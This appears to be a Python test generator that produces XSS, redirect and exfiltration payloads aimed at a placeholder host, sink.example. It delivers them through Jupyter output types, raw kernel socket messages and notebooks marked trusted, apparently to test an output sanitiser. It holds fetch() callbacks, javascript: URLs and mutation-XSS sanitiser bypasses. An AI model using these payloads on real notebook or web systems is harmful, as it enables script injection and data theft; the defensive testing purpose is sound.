"""Outputs that try to act, made by a generator: each act, in each spelling, in each carrier that a kernel can send.

An act leads somewhere with a number of its own below ``https://sink.example/``, downloads, submits, opens or loads.
"""

from __future__ import annotations

import html
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

SINK = "https://sink.example"
_JS = "fetch('{to}')"
_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

ADDRESSES: tuple[str, ...] = (
    "{to}", "//sink.example/{n}", "HTTPS:\\\\sink.example/{n}", "\thttps://sink.example/{n}", "https:sink.example/{n}",
    "data:text/html,<script>location='{to}'</script>", "data:application/octet-stream;base64,QUJD{n}", "files/x{n}.csv",
    "javascript:fetch('{to}')", "java\tscript:location='{to}'", "blob:{to}", "/files/x{n}.csv?download=1",
    "/hub/logout?{n}", "vbscript:{n}", "ftp://sink.example/{n}", "mailto:a@sink.example?body={n}", "?download={n}",
)  # fmt: skip
ACTS: tuple[str, ...] = (
    '<meta http-equiv="refresh" content="0;url={at}">',
    '<a href="{at}">go</a>', '<a href="{at}" download="x{n}.csv">go</a>', '<a href="{at}" target="_blank">go</a>',
    '<a href="{at}" target="_top" rel="opener">go</a>', '<a href="#" ping="{at}">go</a>',
    '<map name="m{n}"><area shape="default" href="{at}"></map><img usemap="#m{n}" src="data:image/png;base64,' + _PIXEL + '">',
    '<form action="{at}"><input name="x" value="1"><button>go</button></form>',
    '<form method="post" action="{at}" target="_blank"><input type="submit" value="go"></form>',
    '<button formaction="{at}" form="f{n}">go</button><form id="f{n}"></form>', '<input type="image" src="{at}">',
    '<iframe src="{at}"></iframe>', "<iframe srcdoc=\"<script>top.location='{at}'</script>\"></iframe>",
    '<object data="{at}"></object>', '<embed src="{at}">', '<link rel="prefetch" href="{at}">',
    '<link rel="stylesheet" href="{at}">', '<link rel="dns-prefetch" href="{at}">', '<base href="{at}"><a href="x">go</a>',
    '<img src="{at}">', '<img srcset="{at} 2x">', '<img src="x" onerror="' + _JS + '">', '<video src="{at}" autoplay></video>',
    '<audio src="{at}" autoplay></audio>', '<picture><source srcset="{at}"><img></picture>', '<track src="{at}">',
    '<style>.x{{background:url("{at}")}}</style><p class="x">x</p>', '<style>@import "{at}";</style>',
    '<style>.dataframe{{background:\\75rl("{at}")}}</style><p class="dataframe">x</p>',
    '<p style="background:url({at})">x</p>', '<p style="content:image-set(\'{at}\')">x</p>',
    '<table background="{at}"><tr><td>x</td></tr></table>', "<script>" + _JS + "</script>",
    '<div onclick="' + _JS + '">go</div>', '<details open ontoggle="' + _JS + '"><summary>go</summary></details>',
    '<svg><a xlink:href="{at}" href="{at}"><text y="20">go</text></a></svg>', '<svg><image href="{at}"/></svg>',
    '<svg onload="' + _JS + '"></svg>', '<svg><script>' + _JS + "</script></svg>",
    '<svg><foreignObject><a href="{at}">go</a></foreignObject></svg>', '<svg><use href="{at}#x"/></svg>',
    '<svg><a><animate attributeName="href" values="{at}"/><text y="20">go</text></a></svg>',
    '<math><mtext href="{at}">go</mtext></math>', '<math><maction xlink:href="{at}">go</maction></math>',
    '<a class="x" data-commandlinker-command="docmanager:download" data-commandlinker-args="{{}}">go</a>',
    '<button data-commandlinker-command="filebrowser:download">go</button>', "$\\href{{{at}}}{{go}}$",
    "$$\\require{{html}}\\style{{background:url({at})}}{{go}}$$", "[go]({at})", "![x]({at})", "<{at}>",
    '[go]: {at}\n\n[go]', "```mermaid\ngraph TD; A-->B; click A href \"{at}\"\n```", "{at}",
    '<noscript><p title="</noscript><img src={at}>"></noscript>', '<template><a href="{at}">go</a></template>',
    '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={at}&gt;">',
    '<svg><style><a title="</style><img src={at}>"></a></style></svg>', '<isindex action="{at}">',
    '<portal src="{at}"></portal>', '<a href="{at}" attributionsrc="{at}">go</a>', '<body background="{at}">',
    '<frameset><frame src="{at}"></frameset>', '<applet code="{at}"></applet>', '<marquee onstart="' + _JS + '">x</marquee>',
)  # fmt: skip


def _upper_tags(text: str) -> str:
    return text.replace("<a ", "<A ").replace("href", "HREF").replace("<meta", "<MeTa").replace("<form", "<FORM")


def _entities(text: str) -> str:
    return text.replace("https:", "&#104;ttps&colon;").replace("javascript", "java&#x09;script")


SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    _upper_tags,
    _entities,
    lambda text: text.replace(" href", "/href").replace(" src", "\n\tsrc"),
    lambda text: text.replace('"', ""),
    lambda text: "<div><table><tr><td>" + text,
    lambda text: text.rstrip(">") if text.startswith("<") else text,
    lambda text: "<style>x{</style>" + text + "<style>}</style>",
    lambda text: text.replace("<", "<\0", 1) if "<a" in text else "\0" + text,
    lambda text: "<!--><!-- --!>" + text + "-->",
)

MIME = (
    "text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "application/javascript",
    "application/vnd.jupyter.widget-view+json", "application/vnd.vegalite.v5+json", "application/pdf", "image/png",
    "application/vnd.mermaid", "text/vnd.mermaid", "application/json", "application/geo+json", "application/vnd.jupyter.stderr",
)  # fmt: skip
CARRIERS = ("display", "update", "expression", "page", "stream", "error", "result", "comm", "help", "input")


@dataclass(frozen=True)
class Escape:
    """One try: what it carries, and how."""

    number: int
    carrier: str
    mime: str
    text: str

    @property
    def bundle(self) -> dict[str, str]:
        text = self.text
        if self.mime == "image/svg+xml" and not text.startswith("<svg"):
            text = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{text}</svg>'
        return {self.mime: text}


def escapes(count: int, seed: int = 15) -> Iterator[Escape]:
    """``count`` tries: each act with a drawn address, spelling, kind and carrier, and acts again until there are enough."""
    drawn = random.Random(seed)
    for number in range(count):
        act = ACTS[number % len(ACTS)]
        address = ADDRESSES[0] if drawn.random() < 0.4 else drawn.choice(ADDRESSES)
        to = f"{SINK}/{number}"
        at = address.format(to=to, n=number)
        spelled = drawn.choice(SPELLINGS) if number >= len(ACTS) else SPELLINGS[0]
        text = spelled(act.format(at=html.escape(at, quote=True) if '"{at}"' in act else at, to=to, n=number))
        mime = "text/html" if drawn.random() < 0.5 else drawn.choice(MIME)
        carrier = "display" if drawn.random() < 0.5 else drawn.choice(CARRIERS)
        yield Escape(number, carrier, mime, text)


def sending_cell(tried: list[Escape]) -> str:
    """A cell whose kernel sends every try past IPython, straight to its sockets."""
    data = json.dumps([[each.carrier, each.bundle, each.text] for each in tried])
    return f"""import json
k = get_ipython().kernel
def out(kind, content): k.session.send(k.iopub_socket, kind, content, parent=k.get_parent("shell"), ident=kind.encode())
for number, (carrier, bundle, text) in enumerate(json.loads({data!r})):
    shown = {{"data": bundle, "metadata": {{}}, "transient": {{"display_id": f"d{{number}}"}}}}
    if carrier == "update":
        out("display_data", {{"data": {{"text/plain": "old"}}, "metadata": {{}}, "transient": {{"display_id": f"d{{number}}"}}}})
        out("update_display_data", shown)
    elif carrier == "result": out("execute_result", shown | {{"execution_count": 1}})
    elif carrier == "stream": out("stream", {{"name": "stdout", "text": text}})
    elif carrier == "error": out("error", {{"ename": text, "evalue": text, "traceback": [text]}})
    elif carrier == "comm": out("comm_open", {{"comm_id": str(number), "target_name": "jupyter.widget", "data": bundle}})
    elif carrier == "help": out("kernel_info_reply", {{"status": "ok", "banner": text, "help_links": [{{"text": "x", "url": text}}]}})
    elif carrier == "input": out("input_request", {{"prompt": text, "password": False}})
    elif carrier == "page": k.shell.payload_manager.write_payload({{"source": "page", "data": bundle, "start": 0}}, single=False)
    else: out("display_data", shown)
print("sent")"""


def notebook(tried: list[Escape]) -> str:
    """A notebook, as a kernel may write one into its home, that holds every try as an output, a text and an attachment."""
    cells = []
    for each in tried:
        outputs = [
            {"output_type": "display_data", "data": each.bundle, "metadata": {"isolated": True}},
            {"output_type": "stream", "name": "stdout", "text": [each.text]},
        ]
        code = {
            "cell_type": "code",
            "source": "1",
            "execution_count": 1,
            "metadata": {"trusted": True},
            "outputs": outputs,
        }
        cells += [
            code,
            {"cell_type": "markdown", "source": each.text, "metadata": {}, "attachments": {"x.svg": each.bundle}},
        ]
    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    metadata = kernel | {"widgets": {"x": 1}}
    cells = cells or [{"cell_type": "code", "source": "", "execution_count": None, "metadata": {}, "outputs": []}]
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": metadata, "cells": cells})
